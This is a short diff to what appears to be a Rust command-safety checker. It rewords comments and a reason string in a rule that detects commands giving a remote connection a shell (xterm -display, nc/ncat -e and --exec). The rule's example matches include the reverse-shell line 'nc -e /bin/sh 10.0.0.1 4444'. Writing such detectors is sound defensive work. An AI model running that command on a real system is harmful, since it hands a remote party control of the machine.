@@ -90,7 +90,7 @@ pub(super) const SHAPES: &[Shape] = &[
                 let word = word.to_ascii_lowercase();
                 word.contains("exec:") || word.contains("system:") || word.contains("shell:")
             }),
-            // The window opens at an X server elsewhere: whoever sits there types into a shell here.
+            // The window opens at a remote X server, whose user gets a shell here.
             "xterm" => command
                 .known()
                 .any(|word| word.contains("-display") || word.contains(":0") || word.contains(":1")),
@@ -99,7 +99,7 @@ pub(super) const SHAPES: &[Shape] = &[
             // ncat(1) and the traditional nc run a program on the connection; OpenBSD's means something else by the letters.
             _ => command.has("-e -c --exec --sh-exec --lua-exec"),
         },
-        reason: "gives whoever is at the other end of a connection a shell",
+        reason: "gives the remote end of a connection a shell",
         fix: "there is no safe form of this",
         matches: &[
             "nc -e /bin/sh 10.0.0.1 4444",
